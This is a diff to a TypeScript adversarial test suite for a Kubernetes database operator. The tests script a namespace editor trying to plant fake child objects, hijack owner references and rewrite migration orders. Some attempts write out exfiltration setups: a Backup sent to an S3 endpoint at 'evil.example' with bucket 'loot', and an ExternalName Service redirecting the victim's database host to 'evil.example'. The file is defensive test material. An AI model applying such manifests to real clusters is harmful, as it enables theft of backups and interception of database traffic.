@@ -1,9 +1,11 @@
 // Attempts of an editor of one namespace: he plants objects there that pass for children of the victim's resources, changes children of
 // his own, and leads the operator where he likes by connection Secrets.
 
+import { expect } from 'vitest'
 import { workerOrderIn } from '../../../src/controllers/migration/worker-order.ts'
+import { secretText } from '../../taint/secret-text.ts'
 import type { AdversaryStage } from '../adversary-stage.ts'
-import { type Attempt, forbidden, harmless, type Outcome, tolerated } from '../attempt.ts'
+import { type Attempt, forbidden, harmless, invalid, type Outcome } from '../attempt.ts'
 import { encoded, victimNamespace } from '../victim.ts'
 import { connectionAttempts } from './connections.ts'
 
@@ -11,9 +13,21 @@ type Act = Attempt['act']
 
 const attempt = (does: string, act: Act, outcome: Outcome): Attempt => ({ attacker: 'editor', does, act, outcome })
 
-const apart = harmless('It is no child: what the victim’s resources have is as before.')
+const isNoChild = 'It is no child: what the victim’s resources have is as before.'
+const apart = harmless(isNoChild)
+
+/** Also what he has planted stays: the operator prunes no child of a resource in another namespace. */
+const staysApart = (kind: string, name: string, reasons: readonly string[] = []) =>
+  harmless(isNoChild, {
+    reasons,
+    check: async (stage) => {
+      await stage.settle()
+      expect(await stage.editor.peek(kind, name)).toBeDefined()
+    },
+  })
+const partOfLabel = 'applyset.kubernetes.io/part-of'
 const labels = (stage: AdversaryStage, kind: string, name: string, plural: string) => ({
-  'applyset.kubernetes.io/part-of': stage.setIdOf(kind, name),
+  [partOfLabel]: stage.setIdOf(kind, name),
   'konverge.dev/owned-by': `${plural}.data.konverge.dev`,
 })
 const marks = (stage: AdversaryStage, kind: string, name: string) => ({
@@ -28,6 +42,8 @@ interface Plant {
   readonly name: string
   readonly of: readonly [kind: string, name: string, plural: string]
   readonly parts?: object
+  /** As of an Outcome, where it is a resource of the operator's. */
+  readonly reasons?: readonly string[]
 }
 
 const pod = {
@@ -53,7 +69,7 @@ const plants: readonly Plant[] = [
     kind: 'secret',
     name: 'vault-postgres-tls',
     of: ['Database', 'vault', 'databases'],
-    parts: { data: encoded({ 'tls.crt': 'x', 'tls.key': 'y' }) },
+    parts: { data: encoded({ 'tls.crt': 'x', 'tls.key': secretText('a planted key') }) },
   },
   {
     kind: 'configmap',
@@ -108,6 +124,8 @@ const plants: readonly Plant[] = [
     kind: 'bak',
     name: 'nightly-planted',
     of: ['Backup', 'nightly', 'backups'],
+    // In the attacker's namespace there is no Database of that name.
+    reasons: ['DatabaseMissing'],
     parts: {
       spec: { databaseRef: { name: 'orders' }, target: { s3: { bucket: 'loot', endpoint: 'http://evil.example' } } },
     },
@@ -126,7 +144,13 @@ const nameOfKind: Readonly<Record<string, string>> = {
   statefulset: 'StatefulSet',
 }
 
-function planting({ kind, name, of: [parent, parentName, plural], parts = {} }: Plant): readonly Attempt[] {
+function planting({
+  kind,
+  name,
+  of: [parent, parentName, plural],
+  parts = {},
+  reasons = [],
+}: Plant): readonly Attempt[] {
   const what = `a ${nameOfKind[kind]} ${name}`
   return [
     attempt(
@@ -138,7 +162,7 @@ function planting({ kind, name, of: [parent, parentName, plural], parts = {} }: 
         }
         return stage.editor.apply(kind, name, { metadata, ...parts }, { as: 'konverge' })
       },
-      apart,
+      staysApart(kind, name, reasons),
     ),
     attempt(
       `plants ${what} whose owner is the victim’s ${parent}, by its uid`,
@@ -147,7 +171,7 @@ function planting({ kind, name, of: [parent, parentName, plural], parts = {} }: 
         const metadata = { ownerReferences, labels: labels(stage, parent, parentName, plural) }
         await stage.editor.apply(kind, name, { metadata, ...parts }, { as: 'konverge' })
       },
-      apart,
+      { ...apart, reasons },
     ),
   ]
 }
@@ -214,7 +238,13 @@ const children: readonly Attempt[] = [
       stage.editor.patch('secret', 'owner-db', {
         metadata: { labels: labels(stage, 'DatabaseUser', 'app', 'databaseusers') },
       }),
-    harmless('The operator puts its labels back; the victim’s see no child.'),
+    harmless('The operator puts its labels back; the victim’s see no child.', {
+      check: async (stage) => {
+        const partOf = async () => (await stage.editor.peek('secret', 'owner-db'))?.metadata.labels?.[partOfLabel]
+        const foreign = stage.setIdOf('DatabaseUser', 'app')
+        await stage.until('the labels to be put back', async () => (await partOf()) !== foreign)
+      },
+    }),
   ),
   attempt(
     'puts a child of his own below the victim by its owner reference',
@@ -222,7 +252,15 @@ const children: readonly Attempt[] = [
       const ownerReferences = [await stage.ownerReference('databaseuser', 'app')]
       await stage.editor.patch('secret', 'writer-db', { metadata: { ownerReferences } })
     },
-    tolerated('The victim’s users see no child.'),
+    harmless('The victim’s users see no child, and his own has its Secret again.', {
+      check: async (stage) => {
+        const isOwn = async () => {
+          const { ownerReferences = [] } = (await stage.editor.peek('secret', 'writer-db'))?.metadata ?? {}
+          return ownerReferences.some(({ name }) => name === 'writer') && (await stage.isReady('dbu', 'writer'))
+        }
+        await stage.until('the Secret to be his user’s again', isOwn)
+      },
+    }),
   ),
   attempt(
     'hands an object over to the victim by konverge.dev/adopt',
@@ -230,7 +268,7 @@ const children: readonly Attempt[] = [
       const annotations = { 'konverge.dev/adopt': `DatabaseUser/${victimNamespace}/app` }
       return stage.editor.create('secret', 'app-db', { metadata: { annotations }, data: password })
     },
-    apart,
+    staysApart('secret', 'app-db'),
   ),
   attempt(
     'changes the password in the Secret of his user',
@@ -238,13 +276,25 @@ const children: readonly Attempt[] = [
       stage.editor.patch('secret', 'owner-db', {
         data: { password: Buffer.from('own-choice-of-his').toString('base64') },
       }),
-    tolerated('At most his own login changes.'),
+    harmless('At most his own login changes; the Secret opens it again.', {
+      check: async (stage) => {
+        const logsIn = async () => {
+          const { user, password: text } = await stage.login('owner')
+          const answer = stage.postgres.byHand('SELECT 1', { user, password: text, database: 'shared' })
+          return await answer.then(
+            () => true,
+            () => false,
+          )
+        }
+        await stage.until('the Secret to open the login', logsIn)
+      },
+    }),
   ),
   attempt(
     'creates the Service of the victim’s server in his namespace',
     ({ editor }) =>
       editor.create('service', 'vault-postgres', { spec: { type: 'ExternalName', externalName: 'evil.example' } }),
-    apart,
+    staysApart('service', 'vault-postgres'),
   ),
   attempt(
     'binds a role to himself',
@@ -282,17 +332,19 @@ const orders: readonly Attempt[] = [
     'changes the order of a Migration, so that it leads to the victim’s database',
     async (stage, name) => {
       const order = await stage.orderOf(name, [{ name: 'only', sql: 'SELECT 1' }])
-      if (order === undefined) throw new Error('the order was rejected')
+      if (order.outcome === 'Rejected') throw new Error(order.message)
       const text = order.text.replaceAll('"mine"', '"orders"').replaceAll('mine_owner', 'orders_owner')
+      expect(text).not.toBe(order.text)
       await stage.editor.patch('configmap', order.name, { data: { 'order.json': text } })
       stage.report = workerOrderIn(text, order.digest) ?? 'refused'
     },
-    tolerated(
-      'The order is immutable, and the worker takes no order but the one whose digest its Job names.',
-      async (stage) => {
+    {
+      sentence: 'The order is immutable, and the worker takes no order but the one whose digest its Job names.',
+      check: async (stage, name) => {
+        await invalid('data').check(stage, name)
         if (stage.report !== 'refused') throw new Error(`the worker took the order: ${JSON.stringify(stage.report)}`)
       },
-    ),
+    },
   ),
 ]
 
